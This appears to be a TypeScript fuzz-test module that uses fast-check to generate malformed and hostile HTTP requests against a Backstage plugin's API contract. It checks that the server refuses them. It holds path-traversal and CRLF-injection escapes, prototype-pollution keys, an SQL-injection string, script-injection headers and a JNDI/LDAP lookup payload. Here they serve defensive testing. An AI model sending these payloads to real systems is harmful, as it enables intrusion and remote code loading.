import {
  contract,
  type OpenApiDocument,
  type OperationId,
  type Route,
} from '@backstage-continuity/plugin-continuity-common';
import fc from 'fast-check';
import { z } from 'zod';
import { requestOf } from '../requests';
import { instancesOf } from './instances';
import { mutated } from './json';
import { packings } from './packings';
import { hostileText } from './texts';

/** A request as it goes over the wire. */
export interface HostileRequest {
  operation: OperationId;
  method: string;
  /** Path and query, as they stand in the first line. */
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** Whether the contract refuses it; otherwise it may be right by chance. */
  mustRefuse: boolean;
}

/** What exists: ids for paths, and bodies that are right. */
export interface Known {
  ids: Record<string, string[]>;
  bodies: Partial<Record<OperationId, unknown[]>>;
}

interface Part {
  text: string;
  mustRefuse: boolean;
}

/** Percent-encoded byte for byte, so that no half of a pair is lost on the way. */
function encoded(text: string): string {
  return [...Buffer.from(text)]
    .map(byte => `%${byte.toString(16).padStart(2, '0')}`)
    .join('')
    .slice(0, 12_000);
}

/** Not even an encoding. */
const brokenEscapes = [
  '%',
  '%0',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%ED%A0%80',
  '%FF%FE',
  '..%2f..%2fetc',
  '%252e%252e',
  '%2e%2e%2f',
  '%00',
  '%0d%0aSet-Cookie:%20a=b',
  '~',
  ';a=b',
  '*',
  '(a+)+$',
];

const inAddress: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: hostileText.map(encoded) },
  { weight: 1, arbitrary: fc.constantFrom(...brokenEscapes) },
);

/** Does its parsing throw, or tell that the contract does not know this? */
function refuses(check: () => boolean): boolean {
  try {
    return !check();
  } catch {
    return true;
  }
}

function refusesPart(schema: Route['body'], value: unknown): boolean {
  return Boolean(schema) && refuses(() => schema!.safeParse(value).success);
}

function pathsOf(operation: OperationId, known: Known): fc.Arbitrary<Part> {
  const route: Route = contract[operation];
  const [valid] = requestOf(operation).path.split('?');
  const names = Object.keys(route.params?.shape ?? {});
  const [, room] = route.path.split('/');
  const ids = known.ids[room] ?? ['unknown-id'];
  const filled = (values: Record<string, string>) =>
    valid
      .split('/')
      .map((segment, index) => {
        const name = route.path.split('/')[index];
        return values[name] ?? segment;
      })
      .join('/');
  if (names.length === 0) {
    return fc.constant({ text: valid, mustRefuse: false });
  }
  const right = fc.constantFrom(...ids).map(id => ({
    text: filled({ ':id': id, ':revision': '1' }),
    mustRefuse: false,
  }));
  const wrong = fc
    .tuple(fc.constantFrom(...names), inAddress)
    .map(([name, value]) => ({
      text: filled({
        ':id': ids[0],
        ':revision': '1',
        [`:${name}`]: value,
      }),
      // Without any text there, it may be another route.
      mustRefuse:
        value !== '' &&
        refuses(
          () =>
            route.params!.shape[name].safeParse(decodeURIComponent(value))
              .success,
        ),
    }));
  return fc.oneof(
    { weight: 3, arbitrary: right },
    { weight: 1, arbitrary: wrong },
  );
}

/** As the router reads it: text, or a list of what is given several times. */
function readQuery(text: string) {
  const search = new URLSearchParams(text);
  return Object.fromEntries(
    [...new Set(search.keys())].map(name => {
      const values = search.getAll(name);
      return [name, values.length > 1 ? values : values[0]];
    }),
  );
}

function queriesOf(operation: OperationId): fc.Arbitrary<Part> {
  const route: Route = contract[operation];
  const { query: valid } = requestOf(operation);
  const names = Object.keys(route.query?.shape ?? {});
  const pair = fc
    .tuple(
      fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...names, 'unheardOf') },
        {
          weight: 1,
          arbitrary: fc.constantFrom(
            '__proto__',
            'constructor',
            'toString',
            '__proto__[polluted]',
            'limit[]',
            'q[a][b]',
            '%00',
            'x'.repeat(5_000),
          ),
        },
      ),
      inAddress,
      fc.constantFrom(1, 1, 1, 1, 2, 30),
    )
    .map(([name, value, times]) =>
      Array.from(
        { length: times },
        () => `${name}=${value.slice(0, 12_000 / times)}`,
      ).join('&'),
    );
  return fc.array(pair, { minLength: 1, maxLength: 3 }).map(pairs => {
    const given = new Set(pairs.map(one => one.split('=')[0]));
    const rest = valid
      .split('&')
      .filter(one => one && !given.has(one.split('=')[0]));
    const text = [...rest, ...pairs].join('&').slice(0, 14_000);
    return {
      text,
      mustRefuse:
        route.permission !== 'token' &&
        refusesPart(route.query ?? z.strictObject({}), readQuery(text)),
    };
  });
}

function refusesJson(schema: Route['body'], text: string): boolean {
  // Nothing at all counts as an empty object; a mark of UTF-8 is passed over.
  const plain = text === '' ? '{}' : text.replace(/^\ufeff/, '');
  return refuses(() => schema!.safeParse(JSON.parse(plain)).success);
}

const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  { weight: 12, arbitrary: fc.constant({}) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<Record<string, string>>(
      { accept: 'text/csv' },
      { accept: 'application/pdf' },
      { accept: 'text/markdown;q=1e999,*/*;q=NaN' },
      { accept: ','.repeat(5_000) },
      { accept: 'a/b;'.repeat(1_000) },
      { accept: '\xff\xfe' },
      { 'accept-language': '*'.repeat(5_000) },
      { 'accept-encoding': 'gzip, deflate, br, ../../etc' },
      { 'x-http-method-override': 'DELETE' },
      { 'if-none-match': `W/"${'a'.repeat(5_000)}"` },
      { 'if-modified-since': '99999-99-99' },
      { range: 'bytes=0-0,-1,99999999999999999999-' },
      { cookie: `${'a=b; '.repeat(1_000)}__proto__=1` },
      { referer: 'vbscript:msgbox(1)' },
      { 'x-forwarded-for': "'; drop table tests; --" },
      { 'x-forwarded-host': 'example.org"><script>' },
      { origin: 'null' },
      { 'user-agent': '\xe2\x80\xae${jndi:ldap://example.org/a}' },
      { te: 'trailers, chunked;q=x' },
    ),
  },
);

interface Sent {
  body?: Buffer;
  headers: Record<string, string>;
  mustRefuse: boolean;
}

function bodiesOf(
  operation: OperationId,
  document: OpenApiDocument,
  known: Known,
): fc.Arbitrary<Sent> {
  const route: Route = contract[operation];
  if (!route.body) {
    return fc.constantFrom<Sent>(
      { headers: {}, mustRefuse: false },
      { headers: {}, mustRefuse: false },
      { headers: {}, mustRefuse: false, body: Buffer.from('{"unheardOf":1}') },
    );
  }
  const template = route.path.replace(/:(\w+)/g, '{$1}');
  const { requestBody } = document.paths[template][
    route.method.toLowerCase()
  ] as { requestBody: { content: Record<string, { schema: object }> } };
  const { schema } = requestBody.content['application/json'];
  const right = [
    ...(known.bodies[operation] ?? []),
    requestOf(operation).body ?? {},
  ];
  const json = fc
    .oneof(
      { weight: 2, arbitrary: fc.constantFrom(...right) },
      { weight: 1, arbitrary: instancesOf(document, schema) },
    )
    .chain(mutated);
  const plain = json.map(text => ({
    body: Buffer.from(text),
    headers: {},
    mustRefuse: refusesJson(route.body, text),
  }));
  const wrapped = fc
    .tuple(json, fc.constantFrom(...packings))
    .map(([text, pack]) => ({ ...pack(Buffer.from(text)), mustRefuse: false }));
  return fc.oneof(
    { weight: 20, arbitrary: plain },
    { weight: 1, arbitrary: wrapped },
  );
}

/**
 * Requests of an operation, each hostile in one or several parts of it. What is
 * right in itself goes to what exists, so that it comes as far as it can.
 */
export function hostileRequests(
  operation: OperationId,
  document: OpenApiDocument,
  known: Known,
): fc.Arbitrary<HostileRequest> {
  const { query } = requestOf(operation);
  const route: Route = contract[operation];
  const queries = fc.oneof(
    {
      weight: route.query ? 1 : 20,
      arbitrary: fc.constant({ text: query, mustRefuse: false }),
    },
    { weight: 4, arbitrary: queriesOf(operation) },
  );
  return fc
    .record({
      path: pathsOf(operation, known),
      query: queries,
      headers: hostileHeaders,
      sent: bodiesOf(operation, document, known),
    })
    .map(({ path, query: asked, headers, sent }) => ({
      operation,
      method: route.method,
      path: asked.text ? `${path.text}?${asked.text}` : path.text,
      headers: {
        ...(sent.body && { 'content-type': 'application/json' }),
        ...headers,
        ...sent.headers,
      },
      body: sent.body,
      mustRefuse: path.mustRefuse || asked.mustRefuse || sent.mustRefuse,
    }));
}
